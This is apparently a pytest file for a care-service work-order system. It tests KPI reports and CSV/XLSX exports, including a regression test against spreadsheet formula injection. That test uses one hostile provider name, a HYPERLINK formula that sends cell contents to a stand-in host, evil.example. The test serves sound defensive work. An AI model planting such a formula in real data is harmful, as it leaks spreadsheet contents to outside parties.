"""Work-order KPIs over a fixed set of orders, every figure computed by hand below."""

from __future__ import annotations

import io
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from fastapi.testclient import TestClient

from callcenter.areas import service as areas_service
from callcenter.elders import service as elders_service
from callcenter.elders.schemas import ElderIn
from tests.conftest import login, make_user
from workorders.models import Provider, SubsidyLedger, WorkOrder, WorkOrderEvent

SH = ZoneInfo("Asia/Shanghai")


def at(day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, 11, day, hour, minute, tzinfo=SH).astimezone(timezone.utc)


@pytest.fixture
def orders(services):
    with services.db.session_scope() as session:
        district = areas_service.get_or_create(session=session, name="中山区", parent=None)
        taoyuan = areas_service.get_or_create(session=session, name="桃源社区",
                                              parent=areas_service.get_or_create(session=session, name="桃源街道", parent=district))
        haijun = areas_service.get_or_create(session=session, name="海军社区",
                                             parent=areas_service.get_or_create(session=session, name="海军广场街道", parent=district))
        elders = [elders_service.create(session=session, elder_in=ElderIn(name=name, community_id=community.id),
                                        sealer=services.sealer, area_code="0411").id for name, community in (("张大爷", taoyuan), ("李奶奶", haijun))]
        p1, p2 = Provider(name="乐龄", phone="+8613900000001"), Provider(name="安康", phone="+8613900000002")
        session.add_all([p1, p2])
        session.flush()

        def order(n, kind, created, status, provider=None, elder=0, accepted=None, arrived=None, completed=None, **extra):
            row = WorkOrder(number=f"GD-{n}", elder_id=elders[elder], service_type=kind, status=status,
                            provider_id=provider.id if provider else None, created_at=created, updated_at=created,
                            accept_due=created + timedelta(hours=1), arrive_due=created + timedelta(hours=3),
                            complete_due=created + timedelta(hours=4), accepted_at=accepted, arrived_at=arrived, completed_at=completed,
                            **extra)
            session.add(row)
            session.flush()
            return row

        o1 = order(1, "meal", at(20, 9), "closed", p1, accepted=at(20, 9, 10), arrived=at(20, 11), completed=at(20, 12, 30), satisfaction=5)
        o2 = order(2, "meal", at(20, 10), "escalated", p1, elder=1, accepted=at(20, 11, 30), arrived=at(20, 13, 30),
                   completed=at(20, 14, 30), satisfaction=2, complaint=True)
        order(3, "cleaning", at(20, 11), "accepted", p2, accepted=at(20, 11, 20))
        o4 = order(4, "cleaning", at(20, 12), "escalated")
        order(5, "meal", at(20, 13), "cancelled", p2)
        o6 = order(6, "meal", at(21, 9), "completed", p1, completed=at(21, 10))  # the next day
        for row in (o2, o4):
            session.add(WorkOrderEvent(order_id=row.id, actor="系统", to_status="escalated", at=row.created_at))
        for row, elder, when in ((o1, 0, at(20, 12, 30)), (o2, 1, at(20, 14, 30)), (o6, 0, at(21, 10))):
            session.add(SubsidyLedger(elder_id=elders[elder], order_id=row.id, service_type="meal", amount=Decimal("-15.00"),
                                      balance_after=Decimal("100.00"), at=when))
        return {"p1": p1.id, "p2": p2.id}


def test_work_order_kpis_equal_the_hand_computed_values(app, services, orders, console):
    client = TestClient(app)
    login(client, make_user(services, "supervisor"))
    report = client.get("/api/stats/workorders", params={"from": "2026-11-20", "to": "2026-11-20"}).json()
    assert report["total"] == {
        "created": 5, "completed": 2, "closed": 1, "cancelled": 1,   # o1 … o5; o6 is the next day's
        "completion_rate": 0.4,                # 2 / 5
        "on_time_completion_rate": 0.5,        # o1 by 13:00; o2 at 14:30, due 14:00
        "accepted_in_time_rate": 0.6667,       # o1, o3 of o1, o2, o3
        "arrived_in_time_rate": 0.5,           # o1 of o1, o2
        "callbacks": 2, "satisfaction_rate": 0.5, "mean_satisfaction": 3.5,
        "complaints": 1, "escalations": 2,     # o2 (the complaint), o4 (no provider)
    }
    types = {row["service_type"]: row for row in report["by_type"]}
    assert (types["meal"]["service_name"], types["meal"]["created"], types["meal"]["completed"]) == ("助餐", 3, 2)
    assert (types["cleaning"]["created"], types["cleaning"]["completion_rate"]) == (2, 0.0)
    providers = {row["provider_name"]: row for row in report["by_provider"]}
    assert (providers["乐龄"]["created"], providers["乐龄"]["mean_satisfaction"], providers["安康"]["created"]) == (2, 3.5, 2)
    assert report["by_status"] == {"accepted": 1, "cancelled": 1, "closed": 1, "escalated": 2}
    assert [(row["service_type"], Decimal(row["spent"])) for row in report["subsidy_by_type"]] == [("meal", Decimal("30"))]
    assert [(row["street"], Decimal(row["spent"])) for row in report["subsidy_by_street"]] == [
        ("桃源街道", Decimal("15")), ("海军广场街道", Decimal("15"))]
    assert console.get("/api/stats/workorders").status_code == 403


def test_work_order_exports_match_the_report(app, services, orders):
    client = TestClient(app)
    login(client, make_user(services, "supervisor"))
    day = {"from": "2026-11-20", "to": "2026-11-20"}
    lines = client.get("/api/stats/workorders/export", params=day | {"table": "by_type"}).content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("服务类型,建单量,办结量,回访办结量,取消量,办结率,及时办结率")
    assert lines[2].startswith("助餐,3,2,1,1,66.67%,50.00%")
    streets = client.get("/api/stats/workorders/export", params=day | {"table": "subsidy_by_street", "format": "xlsx"})
    rows = list(openpyxl.load_workbook(io.BytesIO(streets.content)).active.iter_rows(values_only=True))
    assert rows[0] == ("街道", "补贴支出（元）") and [row[0] for row in rows[1:]] == ["桃源街道", "海军广场街道"]


def test_every_order_tally_field_has_exactly_one_named_aggregate():
    """The report reads its sums by name: a field without an aggregate, or an aggregate without
    its field, would drop or misplace a figure."""
    from dataclasses import fields

    from workorders.stats import OrderTally, tally_columns

    assert sorted(column.name for column in tally_columns()) == sorted(field.name for field in fields(OrderTally))


HOSTILE_PROVIDER = '=HYPERLINK("http://evil.example/?"&A2,"点击")'


def test_work_order_exports_carry_formulas_as_text(app, services, orders):
    """Finding 2: a provider named like a formula reached the export as a live formula."""
    with services.db.session_scope() as session:
        session.get(Provider, orders["p1"]).name = HOSTILE_PROVIDER
    client = TestClient(app)
    login(client, make_user(services, "supervisor"))
    params = {"from": "2026-11-20", "to": "2026-11-20", "table": "by_provider"}
    text = client.get("/api/stats/workorders/export", params=params).content.decode("utf-8-sig")
    import csv

    assert "'" + HOSTILE_PROVIDER in [row[0] for row in csv.reader(io.StringIO(text))]
    xlsx = client.get("/api/stats/workorders/export", params=params | {"format": "xlsx"})
    cells = [row[0] for row in openpyxl.load_workbook(io.BytesIO(xlsx.content)).active.iter_rows()]
    hostile = next(cell for cell in cells if cell.value == HOSTILE_PROVIDER)
    assert hostile.data_type == "s" and hostile.quotePrefix
